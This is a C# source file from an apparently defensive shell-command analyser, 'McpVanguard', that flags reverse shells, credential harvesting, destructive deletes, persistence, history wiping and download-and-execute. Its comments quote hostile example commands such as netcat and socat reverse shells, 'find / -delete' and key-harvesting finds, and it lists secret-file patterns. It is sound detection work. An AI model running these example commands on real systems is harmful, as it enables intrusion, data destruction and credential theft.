using static McpVanguard.Inspection.Shell.ShellVocabulary;

namespace McpVanguard.Inspection.Shell;

/// <summary>The checks on one simple command, by the name of the program it runs.</summary>
internal sealed partial class ShellAnalyzer
{
    private void AnalyzeCommand(ShellCommand command, int k, string name, int nesting)
    {
        var words = command.Words;
        CheckOutputOptions(words, k, name);
        CheckClientCommands(words, k, name, nesting);
        if (CheckProgramOptions(words, k, name, nesting))
        {
            return;
        }

        switch (name)
        {
            case var _ when Shells.Contains(name):
                RunInline(words, k, static a => a.Length <= 5 && a[0] == '-' && a[1] != '-' && a.Contains('c'), nesting);
                CheckSubstitutedCode(command);
                break;
            case "eval" or "source" or "." or "iex" or "invoke-expression":
                AnalyzeText(JoinFrom(words, k + 1), nesting + 1);
                CheckSubstitutedCode(command);
                break;
            case "cmd":
                RunInline(words, k, static a => a.Equals("/c", StringComparison.OrdinalIgnoreCase) || a.Equals("/k", StringComparison.OrdinalIgnoreCase), nesting, joinRest: true);
                break;
            case "powershell" or "pwsh":
                PowerShell(words, k, nesting);
                break;
            case var _ when name.StartsWith("python", StringComparison.Ordinal) || name.StartsWith("perl", StringComparison.Ordinal)
                || name.StartsWith("ruby", StringComparison.Ordinal) || name.StartsWith("php", StringComparison.Ordinal)
                || name is "node" or "nodejs" or "julia" or "luajit" or "ts-node" or "tsx" or "elixir" or "groovy" or "lua" or "awk" or "gawk" or "mawk" or "nawk" or "deno" or "bun" or "rscript" or "r" or "osascript" or "tclsh":
                for (var i = k + 1; i < words.Count - 1; i++)
                {
                    if (words[i] is "-c" or "-e" or "-E" or "-r" or "--eval" or "-p" or "--print")
                    {
                        AnalyzeCode(words[i + 1], nesting);
                    }
                }

                if (CodeOperand(words, k, name) is { } program)
                {
                    AnalyzeCode(program, nesting);
                }

                // Code glued to its flag: ruby -e'f=TCPSocket.open(…)', python -c'import os;…' (flags alone are letters only).
                for (var i = k + 1; i < words.Count; i++)
                {
                    var w = words[i];
                    if (w.Length > 3 && w[0] == '-' && w[1] is 'c' or 'e' && w.AsSpan(2).ContainsAnyExcept(FlagLetters))
                    {
                        AnalyzeCode(w[2..], nesting);
                    }
                }

                // awk's system("…") and print | "sh": the program text is the first operand.
                if (name is "awk" or "gawk" or "mawk" or "nawk")
                {
                    AwkRuns(words, k, nesting);
                }

                // Anti-forensics: "perl -pi -e 's/evil//' ~/.bash_history" edits a history in place.
                if (name.StartsWith("perl", StringComparison.Ordinal) && words.Exists(static w => w.Length > 1 && w[0] == '-' && w[1] != '-' && w.Contains('i')))
                {
                    ReportTrailTargets(words, k);
                }

                CheckSubstitutedCode(command);
                break;
            case "nc" or "ncat" or "netcat" or "nc.traditional" or "nc.openbsd" or "nc64" or "cryptcat":
                // Reverse/bind shell: "nc -e /bin/sh host 4444", "ncat --sh-exec …", "nc -lvnpe /bin/bash 4444".
                for (var i = k + 1; i < words.Count; i++)
                {
                    var a = words[i];
                    if (a is "-c" or "--exec" or "--sh-exec" or "--lua-exec" || a.Length > 1 && a[0] == '-' && a[1] != '-' && a.Contains('e'))
                    {
                        Report(ShellFindings.ReverseShell);
                    }
                }

                break;
            case "socat":
                // Reverse shell: "socat tcp:host:4444 exec:'bash -li',pty".
                foreach (var w in words)
                {
                    var lw = w.ToLowerInvariant();
                    if (lw.StartsWith("exec:", StringComparison.Ordinal) || lw.StartsWith("system:", StringComparison.Ordinal))
                    {
                        Report(ShellFindings.ReverseShell);
                    }
                }

                break;
            case "find":
                // Credential harvest: "find / -name '*.pem' -exec cat {} \;".
                if (IsSensitiveFind(words, k) && FindExecsReader(words, k))
                {
                    Report(ShellFindings.CredentialHarvest);
                }

                // Destructive: "find / -delete", "find ~ -type f -exec rm -f {} +". A start deeper than a top-level directory is a
                // clean-up ("find /var/log -mtime +30 -exec rm {} \;", "find /tmp/build -delete").
                if (k + 1 < words.Count && IsTopLevelCriticalDirectory(words[k + 1]) && FindDeletes(words, k))
                {
                    Report(ShellFindings.Destructive);
                }

                // ... and every file of a home's work folder ("find ~/projects -type f -exec shred -u {} +"); a name, path, age or size
                // test makes it a clean-up ("find ~/projects -name '*.pyc' -delete").
                if (k + 1 < words.Count && HomeWorkFolders.Contains(words[k + 1]) && FindDeletes(words, k) && !FindNarrows(words, k))
                {
                    Report(ShellFindings.Destructive);
                }

                // find -exec sh -c '…' {} \; runs a shell per file found.
                for (var i = k + 1; i < words.Count - 1; i++)
                {
                    if (words[i] is "-exec" or "-execdir" or "-ok" or "-okdir")
                    {
                        RunsPerItem(words, i + 1, nesting);
                    }
                }

                break;
            case "crontab":
                // Persistence: any crontab use other than listing installs a new table.
                if (!words.Contains("-l"))
                {
                    Report(ShellFindings.Persistence);
                }

                break;
            case "schtasks":
                if (words.Exists(static w => w.Equals("/create", StringComparison.OrdinalIgnoreCase)))
                {
                    Report(ShellFindings.Persistence);
                }

                break;
            case "reg":
                // Persistence: a value under a Run or RunOnce key starts at every logon (the tokenizer may have eaten the backslashes).
                if (words.Exists(static w => w.Equals("add", StringComparison.OrdinalIgnoreCase)) && words.Exists(IsRunKey))
                {
                    Report(ShellFindings.Persistence);
                }

                break;
            case "tee":
                for (var i = k + 1; i < words.Count; i++)
                {
                    if (!words[i].StartsWith('-'))
                    {
                        CheckWriteTarget(words[i], truncates: !words.Contains("-a"));
                    }
                }

                break;
            case "cp" or "mv" or "install" or "rsync" or "ln":
                if (words.Count > k + 2 && !words[^1].StartsWith('-'))
                {
                    CheckWriteTarget(words[^1], truncates: false);

                    // Anti-forensics: "ln -sf /dev/null ~/.bash_history".
                    if (name == "ln" && words.Contains("/dev/null") && ShellTargets.IsTrail(ShellTargets.Fold(words[^1])))
                    {
                        Report(ShellFindings.AntiForensics);
                    }
                }

                break;
            default:
                AnalyzeSystemCommand(words, k, name);
                break;
        }
    }

    /// <summary>Runs the script given to <c>sh -c</c> or <c>cmd /c</c> through the analyser again.</summary>
    private void RunInline(List<string> words, int k, Func<string, bool> isInlineFlag, int nesting, bool joinRest = false)
    {
        for (var i = k + 1; i < words.Count - 1; i++)
        {
            if (words[i].Length > 1 && isInlineFlag(words[i]))
            {
                var script = joinRest ? JoinFrom(words, i + 1) : words[i + 1];
                AnalyzeText(script, nesting + 1);
                return;
            }
        }
    }

    /// <summary>An interpreter running what a substitution produced: <c>bash -c "$(curl -fsSL …)"</c>, <c>eval $(echo … | base64 -d)</c>.</summary>
    private void CheckSubstitutedCode(ShellCommand command)
    {
        foreach (var sub in command.Substitutions)
        {
            foreach (var inner in sub.AllCommands())
            {
                var k = FindCommand(inner.Words, out _);
                if (k >= inner.Words.Count)
                {
                    continue;
                }

                var name = NameOf(inner.Words[k]);
                if (Downloaders.Contains(name))
                {
                    Report(ShellFindings.DownloadExecute);
                }
                else if (IsDecoder(inner.Words, k, name))
                {
                    Report(ShellFindings.DecodedPayload);
                }
            }
        }
    }

    private void PowerShell(List<string> words, int k, int nesting)
    {
        for (var i = k + 1; i < words.Count - 1; i++)
        {
            var a = words[i];
            if (a.Length < 2 || a[0] is not ('-' or '/'))
            {
                continue;
            }

            var option = a[1..].ToLowerInvariant();

            // -e, -en, -enc, …, -EncodedCommand and -ec all mean -EncodedCommand: the script is base64 UTF-16LE.
            if (option == "ec" || "encodedcommand".StartsWith(option, StringComparison.Ordinal))
            {
                Report(ShellFindings.PowerShellEncoded);
                if (ShellPayloadDecoder.TryBase64(words[i + 1], utf16: true, out var script))
                {
                    PowerShellScript(script, nesting);
                }

                return;
            }

            if ("command".StartsWith(option, StringComparison.Ordinal))
            {
                PowerShellScript(JoinFrom(words, i + 1), nesting);
                return;
            }
        }
    }

    /// <summary>
    /// A PowerShell script (<c>-Command</c>, or <c>-EncodedCommand</c> decoded) is a command line and code at once. Its backslashes are path
    /// separators, not escapes (PowerShell escapes with a backtick), so they are read as '/' before the POSIX tokenizer sees them:
    /// <c>Get-Content $env:USERPROFILE\.ssh\id_rsa</c>.
    /// </summary>
    private void PowerShellScript(string script, int nesting)
    {
        var folded = script.Replace('\\', '/');
        AnalyzeText(JoinedLists.FoldPowerShell(PowerShellExpressions.Fold(folded)), nesting + 1);
        AnalyzeCode(folded, nesting + 1);
    }

    /// <summary>The words from <paramref name="start"/> on, joined as the command line they were.</summary>
    private static string JoinFrom(List<string> words, int start) =>
        start >= words.Count ? string.Empty : string.Join(' ', words.GetRange(start, words.Count - start));

    /// <summary>A <c>find</c> whose name or path pattern targets keys or credentials.</summary>
    private static bool IsSensitiveFind(List<string> words, int k)
    {
        for (var i = k + 1; i < words.Count - 1; i++)
        {
            if (words[i] is "-name" or "-iname" or "-path" or "-ipath" or "-wholename" or "-regex" or "-iregex" && IsSecretPattern(words[i + 1].ToLowerInvariant()))
            {
                return true;
            }
        }

        return false;
    }

    private static bool IsSecretPattern(string p) =>
        p.Contains("id_rsa") || p.Contains("id_dsa") || p.Contains("id_ecdsa") || p.Contains("id_ed25519") || p.Contains("id_*") || p.Contains(".pem")
        || p.Contains(".key") || p.Contains(".p12") || p.Contains(".pfx") || p.Contains(".ppk") || p.Contains(".kdbx") || p.Contains(".env")
        || p.Contains("credential") || p.Contains("netrc") || p.Contains("pgpass") || p.Contains("authorized_keys") || p.Contains("shadow")
        || p.Contains("wallet") || p.Contains("secret") || p.Contains("passw") || p.Contains("token") || p.Contains(".ssh") || p.Contains(".aws")
        || p.Contains("private") || p.Contains("kubeconfig");

    private static bool FindExecsReader(List<string> words, int k)
    {
        for (var i = k + 1; i < words.Count - 1; i++)
        {
            if (words[i] is "-exec" or "-execdir" or "-ok" or "-okdir" && Readers.Contains(NameOf(words[i + 1])))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>What a cluster of single-letter flags is made of (<c>-pe</c>, <c>-ne</c>); anything else glued to -e or -c is code.</summary>
    private static readonly System.Buffers.SearchValues<char> FlagLetters = System.Buffers.SearchValues.Create("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ");

    private static bool IsTopLevelCriticalDirectory(string word)
    {
        var t = word.TrimEnd('/');
        return IsCriticalDirectory(word) && (t.Length == 0 || t[0] != '/' || t.IndexOf('/', 1) < 0);
    }

    /// <summary>A find test that selects some files rather than all: by name, path, age, size, owner or emptiness.</summary>
    private static bool FindNarrows(List<string> words, int k)
    {
        for (var i = k + 2; i < words.Count; i++)
        {
            if (words[i] is "-name" or "-iname" or "-path" or "-ipath" or "-wholename" or "-regex" or "-iregex" or "-mtime" or "-mmin" or "-atime"
                or "-amin" or "-ctime" or "-cmin" or "-newer" or "-size" or "-empty" or "-user" or "-group" or "-perm" or "-links" or "-samefile")
            {
                return true;
            }
        }

        return false;
    }

    private static bool FindDeletes(List<string> words, int k)
    {
        for (var i = k + 1; i < words.Count; i++)
        {
            if (words[i] == "-delete" || words[i] is "-exec" or "-execdir" or "-ok" && i + 1 < words.Count && NameOf(words[i + 1]) is "rm" or "shred" or "unlink")
            {
                return true;
            }
        }

        return false;
    }

    private static bool IsRunKey(string word)
    {
        var w = word.Replace("\\", string.Empty, StringComparison.Ordinal).Replace("/", string.Empty, StringComparison.Ordinal).ToLowerInvariant();
        return w.EndsWith("currentversionrun", StringComparison.Ordinal) || w.EndsWith("currentversionrunonce", StringComparison.Ordinal)
            || w.EndsWith("currentversionpoliciesexplorerrun", StringComparison.Ordinal);
    }

    private static bool XargsRunsReader(List<string> words, int k)
    {
        for (var i = k + 1; i < words.Count; i++)
        {
            var w = words[i];
            if (w.StartsWith('-'))
            {
                if (w is "-I" or "-n" or "-P" or "-d" or "-L" or "-s" or "-E" && i + 1 < words.Count)
                {
                    i++;
                }

                continue;
            }

            return Readers.Contains(NameOf(w));
        }

        return false;
    }
}
